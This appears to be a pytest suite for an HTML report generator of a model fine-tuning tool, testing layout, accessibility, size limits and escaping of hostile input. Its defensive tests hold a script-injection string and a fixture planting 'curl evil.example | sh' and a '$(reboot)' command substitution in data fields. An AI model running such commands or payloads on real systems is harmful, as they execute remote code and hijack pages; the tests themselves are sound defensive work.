"""The HTML page: self-contained, accessible, bounded in size, deaf to hostile text."""

from __future__ import annotations

import json
import re
import shutil
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from importlib import resources
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from rft_ilab.report.charts import Series, line_chart, share_bar, thin
from rft_ilab.report.frontier import chosen_sentence
from rft_ilab.report.gate_data import Flip
from rft_ilab.report.html import render_html, shown_flips, write_html
from rft_ilab.report.load import load_run
from rft_ilab.report.markdown import markdown_summary
from rft_ilab.report.page import clip
from rft_ilab.report.svg import round_scale, tag

RUN = Path(__file__).resolve().parents[1] / "fixtures" / "run"
VOID = {"meta", "br", "input", "link", "img", "hr"}
HOSTILE = "<script>document.title='pwned'</script>\"' onload=x ]]> --> {{7*7}} </style>\u2028\u202e\u200b\x1b[2J\ud800"
ENUMS = {"outcome", "tier", "direction", "stage", "disposition", "stop", "chosen", "ci"}


class Page(HTMLParser):
    """Collects what the assertions need, and checks on the way that every tag is closed in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None], tuple[str, ...]]] = []
        self.words: list[str] = []
        self.feed(text)
        self.close()
        assert self.stack == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs), attrs
        self.tags.append((tag, dict(attrs), tuple(self.stack)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs), tuple(self.stack)))

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop() == tag

    def handle_data(self, data: str) -> None:
        if not {"style", "script"} & set(self.stack):
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


@pytest.fixture(scope="module")
def html() -> str:
    return render_html(load_run(RUN))


@pytest.fixture(scope="module")
def page(html: str) -> Page:
    return Page(html)


def rewrite(run: Path, change: Any) -> Path:
    """Apply ``change(key, value)`` to every leaf of every file of a run."""

    def walk(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {f"{k} {HOSTILE}" if key == "per_class" else k: walk(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(item, key) for item in value]
        return change(key, value)

    for file in run.rglob("*.json*"):
        text = file.read_text(encoding="utf-8")
        lines = text.splitlines() if file.suffix == ".jsonl" else [text]
        file.write_text("\n".join(json.dumps(walk(json.loads(line))) for line in lines) + "\n", encoding="utf-8")
    return run


def test_says_what_matters_first(page: Page) -> None:
    text = page.text
    start = text.index("PASS :")
    said = [
        "What was trained? SmolLM2-135M-Instruct for healthcare/patient_triage.",
        "Did it get better? Yes. 89.2% of 120 test questions that it had never seen are answered right; the old model, "
        "helped by 8 worked examples in its prompt: 10.8%. Difference +78.3 points, 95% interval +70.6 to +85.4.",
        "Did anything else get worse? No. 4 other tested skills stayed within the tolerated loss of 10 points.",
        "May it replace the old model? Yes, by these tests.",
        "What did it cost? 7 min 20 s.",
        "healthcare/patient_triage the trained skill, 120 test tasks 10.8% 89.2%",
        "Why PASS",
    ]
    places = [text.index(words) for words in said]
    assert start < places[0] and places == sorted(places)
    assert "100 fixed" in text and "4 broken" in text and "29.2%" in text


def test_shows_every_part(page: Page) -> None:
    for words in (
        "Macro accuracy", "By class", "Did anything else get worse?", "Reward and validation accuracy",
        "Groups with signal",
        "Which checkpoint was chosen", "Was there anything to learn from?", "What the trainer saw",
        "candidates 136 100.0%",
        "references authored answers added, no candidates 14", "ilab rft run --run demo", "commit 4be1c7a9", "−10.0",
        "not in the macro accuracy", "grader timed out after 2.0 s", "Cost by stage",
    ):  # fmt: skip
        assert words in page.text, words


def test_the_frontier_is_drawn_and_said(page: Page) -> None:
    assert (
        "Kept: weights after GRPO step 30, with 0.75 of what training changed; on validation tasks the target +79.2 "
        "points, other skills +0.0 at worst."
    ) in page.text
    said = "office/order_json: +0.0 points at scale 0, +0.0 points at scale 0.25, +0.8 points at scale 0.5, "
    assert said + "+0.0 points at scale 0.75, -4.2 points at scale 1" in page.text
    assert "largest loss allowed: 5.0 points. chosen: scale 0.75" in page.text
    assert "0.75 89.6% 81.0% 70.8% 91.7% 65.8%" in page.text  # the table behind it


def test_what_each_stage_did(page: Page) -> None:
    assert "base 10.4%, base with 8 demonstrations 22.9%, warm start 41.7%, chosen 89.6% (step-30@0.75)." in page.text
    assert "Greedy answers to 96 validation tasks" in page.text
    assert "warm start chosen +47.9 50 4 0.218" in page.text


def test_a_flip_shows_what_was_extracted_and_how_to_see_all_of_it(html: str, page: Page) -> None:
    assert "task 6820212c6959, group emergency-0, class EMERGENCY Prompt" in page.text
    assert "Before (right) EMERGENCY Extracted: EMERGENCY Grader: label 'EMERGENCY' is right" in page.text
    assert "Extracted: nothing Grader: quantity: '2' is not 2" in page.text
    assert html.count("To see all of it: <code>ilab rft explain ") == 104
    broken = [f for f in re.findall(r'data-direction="(\w+)"', html) if f == "broken"]
    assert re.findall(r'data-direction="(\w+)"', html)[: len(broken)] == broken


def test_worst_groups_and_classes_of_watched_skills(page: Page) -> None:
    assert "The group of tasks that lost most: emergency-0, 5 tasks, 80.0% before, 60.0% after." in page.text
    assert "order_json-4" not in page.text.split("Answers that changed sides")[0]  # a group of one task is none
    assert "retail/return_policy by class Greedy accuracy of each class, commonest class first." in page.text
    assert "Class Tasks Before After Difference, points yes 56 55.4% 57.1% +1.8 no 40 75.0% 75.0% +0.0" in page.text


def test_commands_are_not_read_from_the_verdict(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "a run"))
    verdict = json.loads((run / "gate" / "verdict.json").read_text(encoding="utf-8"))
    for flip in verdict["flips"]:
        flip |= {"command": "curl evil.example | sh", "task_id": "$(reboot)'"}
    (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
    text = Page(render_html(load_run(run))).text
    assert "evil" not in text and f"""ilab rft explain '$(reboot)'"'"'' --run '{run}'""" in text


def test_a_selection_without_frontier_is_still_shown(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    selection = json.loads((run / "rl" / "selection.json").read_text(encoding="utf-8"))
    for key in ("frontier", "scale", "allowed_loss", "base_watched"):
        del selection[key]
    (run / "rl" / "selection.json").write_text(json.dumps(selection), encoding="utf-8")
    report = load_run(run)
    text = Page(render_html(report)).text
    assert "Which checkpoint was chosen" in text and "How much of the adapter" not in text
    assert report.selection and chosen_sentence(report.selection) == ""


def test_the_base_as_the_choice_and_no_watched_skill(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    selection = json.loads((run / "rl" / "selection.json").read_text(encoding="utf-8"))
    selection |= {"chosen": "base", "scale": 0.0, "allowed_loss": {}}
    selection["frontier"] = [row | {"watched": {}} for row in selection["frontier"]]
    (run / "rl" / "selection.json").write_text(json.dumps(selection), encoding="utf-8")
    text = Page(render_html(load_run(run))).text
    assert "Kept: the base model, unchanged; on validation tasks the target +0.0 points." in text
    assert "chosen: scale 0" in text
    assert "What it costs the watched skills" not in text


def test_is_self_contained(html: str, page: Page) -> None:
    assert not re.search(r"(?:src|href|action|data|srcset)=\"(?!#)", html)
    assert not re.search(r"https?://|url\(|@import|//cdn", html)
    policy = next(a["content"] for t, a, _ in page.tags if t == "meta" and "http-equiv" in a)
    assert policy and policy.startswith("default-src 'none'; style-src 'sha256-") and "unsafe" not in policy
    assert not [a for _, a, _ in page.tags if "style" in a or any(name.startswith("on") for name in a)]


def test_is_accessible(page: Page) -> None:
    ids = [a["id"] for _, a, _ in page.tags if "id" in a]
    assert [i for i, n in Counter(ids).items() if n > 1] == []
    for _, attributes, _ in page.tags:
        for name in (attributes.get("aria-labelledby") or "").split():
            assert name in ids
        if (attributes.get("href") or "").startswith("#"):
            assert (attributes["href"] or "")[1:] in ids
    levels = [int(t[1]) for t, _, _ in page.tags if re.fullmatch(r"h[1-6]", t)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after <= before + 1 or before >= 2 for before, after in pairwise(levels))
    count = Counter(t for t, _, _ in page.tags)
    assert count["table"] == count["caption"]
    pictures = [a for t, a, _ in page.tags if t == "svg" and a.get("role") == "img"]
    assert len(pictures) == count["desc"] > 15
    hidden = [a for t, a, parents in page.tags if t == "svg" and "role" not in a and "svg" not in parents]
    assert all(a.get("aria-hidden") == "true" for a in hidden)
    assert all("scope" in a for t, a, _ in page.tags if t == "th")


def test_same_run_same_bytes(html: str, tmp_path: Path) -> None:
    write_html(load_run(RUN), tmp_path / "report.html")
    assert (tmp_path / "report.html").read_text(encoding="utf-8") == html


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    run = rewrite(
        Path(shutil.copytree(RUN, tmp_path / "run")),
        lambda key, value: HOSTILE if isinstance(value, str) and key not in ENUMS else value,
    )
    html = render_html(load_run(run))
    html.encode()
    assert not {"\u2028", "\u202e", "\u200b", "\x1b"} & set(html)
    page = Page(html)
    count = Counter(t for t, _, _ in page.tags)
    assert (count["script"], count["style"]) == (1, 1)
    assert not [a for _, a, _ in page.tags if any(name.startswith("on") for name in a)]
    assert "<script>document.title='pwned'</script>" in page.text and "49 </style>" not in page.text
    assert "⟨U+2028⟩⟨U+202E⟩⟨U+200B⟩⟨U+001B⟩[2J⟨U+D800⟩" in page.text


def test_stays_small_with_very_much_hostile_text(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    verdict = json.loads((run / "gate" / "verdict.json").read_text(encoding="utf-8"))
    long = "&\u202e" * 1500
    texts = dict.fromkeys(("prompt", "reference", "before", "after", "before_reason", "after_reason"), long)
    verdict["flips"] = [{"skill": "s", "task_id": str(i), "direction": "fixed", **texts} for i in range(400)]
    verdict["flip_counts"] = [{"skill": "s", "broken": 0, "fixed": 400, "listed": 400}]
    verdict["targets"][0]["classes"] *= 100
    (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
    for name, copies in (("rl/rollouts.jsonl", 84), ("rl/steps.jsonl", 40), ("data/ledger.jsonl", 50)):
        file = run / name
        rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
        for row in rows:
            row |= {key: long[:400] for key in ("completion", "prompt", "reason") if key in row}
        body = "".join(
            json.dumps({**row, "step": row.get("step", 0) + 50 * i}) + "\n" for i in range(copies) for row in rows
        )
        file.write_text(body, encoding="utf-8")
    html = render_html(load_run(run))
    assert len(html.encode()) < 2_000_000
    assert "10,080 answers sampled in training" in html
    shown = re.search(r"(\d+) of the 400 are in this page", html)
    assert shown and 50 < int(shown[1]) < 400
    assert "The 60 largest of 600 classes" in html


def test_run_without_verdict_shows_what_there_is(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    (run / "gate" / "verdict.json").unlink()
    text = Page(render_html(load_run(run, require_verdict=False))).text
    assert "NO VERDICT YET" in text and "Reward and validation accuracy" in text and "candidates" in text


def test_verdict_without_anything_else_renders(tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(RUN / "gate", run / "gate")
    verdict = json.loads((run / "gate" / "verdict.json").read_text(encoding="utf-8"))
    verdict |= {"watched": [], "flips": [], "outcome": "INCONCLUSIVE"}
    for key in ("sampled", "macro", "majority", "majority_class", "after_vs_majority", "classes", "reason", "clusters"):
        del verdict["targets"][0][key]
    (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
    text = Page(render_html(load_run(run))).text
    assert "No other skill was watched" in text and "No greedy answer changed sides" in text


def test_comparison_without_numbers_says_so(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    verdict = json.loads((run / "gate" / "verdict.json").read_text(encoding="utf-8"))
    nothing = {"before": None, "after": None, "delta": None, "ci": [-1.0, 1.0]}
    verdict["targets"][0]["greedy"] |= nothing
    verdict["targets"][0]["sampled"] |= nothing
    verdict["watched"][0] |= {
        **nothing,
        "n": 0,
        "ungraded": 120,
        "outcome": "INCONCLUSIVE",
        "reason": "nothing was graded",
    }
    (run / "gate" / "verdict.json").write_text(json.dumps(verdict), encoding="utf-8")
    report = load_run(run)
    text = Page(render_html(report)).text
    assert "no answer could be compared" in text and "nothing was graded" in text and "[−100.0" not in text
    assert "not measured" in markdown_summary(report)


def test_several_targets_keep_ids_apart() -> None:
    report = load_run(RUN)
    assert report.gate is not None
    other = replace(report.gate.targets[0], skill="office/other")
    page = Page(render_html(replace(report, gate=replace(report.gate, targets=(*report.gate.targets, other)))))
    ids = [a["id"] for _, a, _ in page.tags if "id" in a]
    assert len(set(ids)) == len(ids)


def test_broken_flips_come_first_and_kinds_take_turns() -> None:
    def flip(direction: str, reference: str) -> Flip:
        empty = dict.fromkeys(("task_id", "prompt", "before", "after", "before_reason", "after_reason"), "")
        return Flip(skill="s", direction=direction, reference=reference, **empty)

    flips = [flip("fixed", "A")] * 150 + [flip("fixed", "B"), flip("broken", "C")]
    shown = shown_flips(flips)
    assert len(shown) == 152 and [f.reference for f in shown[:3]] == ["C", "A", "B"]


def test_ungraded_answers_can_be_found(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    file = run / "gate" / "results.jsonl"
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    rows[0] |= {"score": None, "reason": "grader timed out <b>", "side": "candidate", "completion": "who knows"}
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    report = load_run(run)
    assert (rows[0]["suite"], "after", "who knows") in [(u.skill, u.side, u.answer) for u in report.ungraded]
    html = render_html(report)
    assert 'data-direction="error"' in html and 'value="error"' in html
    assert "Answer (not graded) who knows Grader: grader timed out <b>" in Page(html).text


def test_the_last_step_has_its_validation(tmp_path: Path) -> None:
    run = Path(shutil.copytree(RUN, tmp_path / "run"))
    file = run / "rl" / "steps.jsonl"
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    last = max(row["step"] for row in rows if row["stage"] == "grpo")
    assert f"step-{last}" in {c.name for c in (load_run(run).selection or pytest.fail()).candidates}
    for row in rows:
        if row["step"] == last:
            row.pop("val", None)
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    said = rf"validation accuracy, greedy: from \S+ at step \d+ to \S+ at step {last};"
    assert re.search(said, render_html(load_run(run)))


def test_a_gate_without_training_claims_no_training(tmp_path: Path) -> None:
    shutil.copytree(RUN / "gate", tmp_path / "run" / "gate")
    text = Page(render_html(load_run(tmp_path / "run"))).text
    assert "What was tested? patient_triage step-30. Compared with SmolLM2-135M-Instruct" in text
    assert "89.2% of 120 test questions are answered right" in text and "never seen" not in text


def test_clip_counts_bytes_after_escaping() -> None:
    assert clip("ab", 2) == "ab"
    assert "3 more characters" in clip("<<<<", 4)
    assert len(str(clip("\u202e" * 5000, 1000)).encode()) < 1100


def contrast(first: str, second: str) -> float:
    """WCAG 2 contrast ratio of two #rrggbb colours."""

    def luminance(colour: str) -> float:
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
        return sum(weight * c for weight, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))

    high, low = sorted((luminance(first), luminance(second)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_colours_have_contrast_in_light_and_dark() -> None:
    css = resources.files("rft_ilab.report").joinpath("assets/report.css").read_text(encoding="utf-8")
    blocks = re.findall(r":root \{(.*?)\}", css, re.S)
    assert len(blocks) == 2
    for block in blocks:
        colour = dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6});", block))
        for name in ("text", "muted", "link", "pass", "fail", "unclear"):
            for back in ("page", "surface"):
                assert contrast(colour[name], colour[back]) >= 4.5, (name, back)
        for name in ("before", "after", "macro"):  # graphics need 3:1
            assert contrast(colour[name], colour["page"]) >= 3, name
        assert contrast(colour["before"], colour["grid"]) >= 2.8


def test_nothing_moves() -> None:
    css = resources.files("rft_ilab.report").joinpath("assets/report.css").read_text(encoding="utf-8")
    assert not re.search(r"transition|animation|scroll-behavior|@keyframes", css)  # so there is no motion to reduce


def test_svg_escapes_by_construction() -> None:
    assert tag("a", "<&\u202e", title='"><x') == '<a title="&#34;&gt;&lt;x">&lt;&amp;⟨U+202E⟩</a>'


def test_empty_chart_is_nothing_and_one_point_is_no_crash() -> None:
    assert line_chart("t", [Series("s", [], "after")], "k", show=str) == ""
    assert "<polyline" in line_chart("t", [Series("s", [(0, 0.0)], "after")], "k", show=str)
    assert "<rect" not in share_bar([("none", 0, "x")], "t", "k")


def test_scales_cover_their_values() -> None:
    for values in ([0.0], [-3.0, 7.0], [1e-9, 1e-8], [123456.0], [-0.2, -0.1]):
        scale, ticks = round_scale(values)
        assert scale.low <= min(values) and max(values) <= scale.high and 2 <= len(ticks) <= 12
    assert len(thin([(i, 1.0) for i in range(5000)])) <= 300
